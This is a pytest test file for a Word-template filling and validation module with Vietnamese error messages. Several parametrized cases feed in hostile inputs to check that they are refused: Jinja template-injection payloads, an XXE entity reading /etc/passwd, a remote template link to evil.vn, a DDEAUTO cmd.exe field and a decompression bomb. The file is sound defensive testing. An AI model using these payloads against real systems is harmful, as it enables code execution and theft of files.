"""Word templates: what an office may write, what is refused and how it is said."""

import zipfile
from datetime import UTC, datetime
from io import BytesIO

import pytest
from docx import Document

from assessments.reports.documents.fields import fields, shape
from assessments.reports.documents.rendering import WrongTemplate, check, fill
from assessments.reports.documents.templates import default
from assessments.reports.issued.models import DocumentKind
from tests.assessments.docx import changed, document, text
from tests.packages import invalid
from tools.word_templates import TEMPLATES

pytestmark = pytest.mark.once
STAMP = datetime(2018, 12, 31, 7, tzinfo=UTC)
SHAPE = {"ten": "", "nam": "", "muc": {"ty_le": "", "dat": ""}, "ds": [{"ma": "", "ten": ""}]}
CONTEXT = {
    "ten": "Kon <Tum> & {{ nam }}",
    "nam": "2018",
    "muc": {"ty_le": "49,92%", "dat": False},
    "ds": [{"ma": "A", "ten": "Đảng bộ A"}, {"ma": "B", "ten": "Đảng bộ B"}],
}


def filled(*lines, **more) -> str:
    return text(fill(document(*lines, **more), SHAPE, CONTEXT, STAMP))


def refused(content: bytes) -> list[str]:
    with pytest.raises(WrongTemplate) as wrong:
        check(content, SHAPE)
    return wrong.value.reasons


def test_fields_lists_and_conditions_are_filled():
    found = filled(
        "Năm {{ nam }}: {{ muc.ty_le }}{% if not muc.dat %}, chưa đạt{% endif %}",
        "{%p for d in ds %}",
        "{{ loop.index }}. {{ d.ten }}{% if loop.last %}.{% endif %}",
        "{%p endfor %}",
        header="Của {{ nam }}",
    )
    assert "Năm 2018: 49,92%, chưa đạt" in found
    assert "1. Đảng bộ A\n2. Đảng bộ B." in found and "Của 2018" in found


def test_a_name_is_neither_markup_nor_template():
    assert "Kon <Tum> & {{ nam }}" in filled("{{ ten }}")


def test_a_field_split_by_word_is_one_field():
    made = Document()
    paragraph = made.add_paragraph("Năm {{ ")
    for piece in ("na", "m }", "}"):
        paragraph.add_run(piece).bold = True
    stream = BytesIO()
    made.save(stream)
    assert "Năm 2018" in text(fill(stream.getvalue(), SHAPE, CONTEXT, STAMP))


def test_the_same_template_and_figures_give_the_same_bytes():
    template = document("{{ ten }}")
    assert fill(template, SHAPE, CONTEXT, STAMP) == fill(template, SHAPE, CONTEXT, STAMP)


def test_a_wrong_field_says_which_is_nearest_and_where():
    reasons = refused(document("Đoạn đầu", "Trong năm {{ namm }} có {{ muc.tyle }} và {{ xyz.q }}"))
    assert reasons[0] == (
        "trường “{{ namm }}” không có; gần nhất: “nam”. "
        "Đoạn: “Trong năm {{ namm }} có {{ muc.tyle }} và {{ xyz.q }}”"
    )
    assert "“{{ muc.tyle }}” không có; gần nhất: “muc.ty_le”" in reasons[1]
    assert "“{{ xyz }}” không có" in reasons[2] and len(reasons) == 3


def test_faults_of_body_and_header_are_told_at_once():
    reasons = refused(document("{{ mot }}", "{{ hai }}", header="{{ ba }}"))
    assert [name for name in ("mot", "hai", "ba") if any(name in reason for reason in reasons)] == [
        "mot",
        "hai",
        "ba",
    ]


def test_many_faults_are_told_in_part():
    reasons = refused(document(*(f"{{{{ sai{number} }}}}" for number in range(25))))
    assert len(reasons) == 11 and "15" in reasons[-1]


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("{{ ds }}", "là danh sách"),
        ("{{ muc }}", "là nhóm, gồm: ty_le, dat"),
        ("{% for d in nam %}{% endfor %}", "không phải danh sách"),
        ("{% for d in ds %}{{ d.tenn }}{% endfor %}", "gần nhất: “d.ten”"),
        ("{% for d in ds %}{% endfor %}{{ d.ten }}", "“{{ d }}” không có"),
        ("{{ nam", "viết chưa đúng"),
        ("{% if nam %}", "viết chưa đúng"),
        ("{% endfor %}", "viết chưa đúng"),
        ("{{ nam.a }}", "“{{ nam.a }}” không có"),
        ("{{ nam|upper }}", "không dùng được"),
        ("{{ nam.upper() }}", "không dùng được"),
        ("{{ ''.__class__.__mro__ }}", "không dùng được"),
        ("{{ nam.__class__ }}", "không có"),
        ("{{ cycler.__init__.__globals__ }}", "không có"),
        ("{{ self }}", "không có"),
        ("{{ range(10**9)|list }}", "không dùng được"),
        ("{{ 9**9**9 }}", "không dùng được"),
        ("{{ 'a' * 10**9 }}", "không dùng được"),
        ("{% set nam = 1 %}", "không dùng được"),
        ("{% include '/etc/passwd' %}", "không dùng được"),
        ("{% import 'os' as os %}", "không dùng được"),
        ("{% macro x() %}{% endmacro %}", "không dùng được"),
        ("{{ ds[0] }}", "không dùng được"),
        ("{% for d in ds if d.ma %}{% endfor %}", "không dùng được"),
    ],
)
def test_what_no_office_needs_is_refused(line, words):
    reasons = refused(document("Trước", line, "Sau"))
    assert any(words in reason for reason in reasons), reasons


def test_a_template_in_the_properties_is_no_way_around():
    made = Document()
    made.core_properties.title = "{{ ''.__class__ }}"
    stream = BytesIO()
    made.save(stream)
    assert "không dùng được" in refused(stream.getvalue())[0]


BOMB = b"<w:document>" + b" " * 70_000_000
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
EXTERNAL = (
    b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.vn/x.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)
DDE = b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p><w:sectPr'


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        ({"word/vbaProject.bin": b"x"}, "macro"),
        ({"word/embeddings/a.bin": b"x"}, "macro"),
        ({"[Content_Types].xml": lambda xml: xml.replace(
            b"wordprocessingml.document.main", b"document.macroEnabled.main")}, "macro"),
        ({"[Content_Types].xml": lambda xml: xml.replace(
            b"wordprocessingml.document.main", b"wordprocessingml.template.main")}, ".docx"),
        ({"word/document.xml": BOMB}, "60 MB"),
        ({f"word/part{number}.xml": b"<a/>" for number in range(1100)}, "60 MB"),
        ({"word/settings.xml": lambda xml: DOCTYPE + b"<a>&a;</a>"}, "thực thể"),
        ({"word/document.xml": lambda xml: b"<w:document"}, "bị hỏng"),
        ({"word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", EXTERNAL)},
         "nơi khác"),
        ({"word/document.xml": lambda xml: xml.replace(b"<w:sectPr", DDE, 1)}, "nơi khác"),
    ],
)  # fmt: skip
def test_a_hostile_file_is_refused(parts, words):
    assert words in refused(changed(document("{{ nam }}"), parts))[0]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", ".docx"),
        (b"PK\x03\x04", ".docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99, ".doc"),
        (b"%PDF-1.4", ".docx"),
        (document("x")[:2000], ".docx"),
        (b"0" * 11_000_000, "10 MB"),
    ],
)
def test_what_is_no_document_is_said_to_be_none(content, words):
    assert words in refused(content)[0]


def test_a_workbook_under_another_name_is_no_document():
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as out:
        out.writestr("[Content_Types].xml", "<a/>")
        out.writestr("xl/workbook.xml", "<a/>")
    assert ".docx" in refused(stream.getvalue())[0]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", DocumentKind.values)
def test_a_default_template_is_sound_and_made_by_its_script(kind):
    check(default(kind), shape())
    assert invalid(default(kind), ".docx") == []
    assert TEMPLATES[kind]() == default(kind)


@pytest.mark.parametrize("kind", DocumentKind.values)
def test_a_default_template_is_laid_out_as_the_party_writes(kind):
    made = Document(BytesIO(default(kind)))
    section = made.sections[0]
    sizes = [
        section.page_width.mm,
        section.page_height.mm,
        section.top_margin.mm,
        section.bottom_margin.mm,
        section.left_margin.mm,
        section.right_margin.mm,
    ]
    assert [round(size) for size in sizes] == [210, 297, 20, 20, 30, 15]
    normal = made.styles["Normal"].font
    assert (normal.name, normal.size.pt) == ("Times New Roman", 14)
    assert section.different_first_page_header_footer
    assert "PAGE" in section.header.paragraphs[0]._p.xml
    assert {
        round(p.paragraph_format.first_line_indent.mm)
        for p in made.paragraphs
        if p.paragraph_format.first_line_indent
    } == {10}


@pytest.mark.django_db
def test_no_two_fields_have_one_name():
    names = [field.name for field in fields()]
    assert len(names) == len(set(names)) and all(name.isascii() for name in names)
